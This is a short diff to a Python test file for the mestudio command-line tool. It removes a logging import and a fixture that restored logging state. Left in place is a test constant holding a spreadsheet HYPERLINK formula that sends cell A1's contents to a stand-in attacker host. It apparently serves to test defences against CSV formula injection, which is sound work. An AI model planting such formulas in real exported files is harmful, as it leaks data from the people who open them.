@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import json
-import logging
 from pathlib import Path
 
 import cv2
@@ -16,16 +15,6 @@ import pytest
 from mestudio.cli import main
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-@pytest.fixture(autouse=True)
-def _restore_logging():
-    """``mestudio.cli.main`` points logging at the (captured) stderr; undo it afterwards."""
-    root = logging.getLogger()
-    handlers, level = list(root.handlers), root.level
-    yield
-    root.handlers[:] = handlers
-    root.setLevel(level)
 
 
 @pytest.fixture(scope="module")
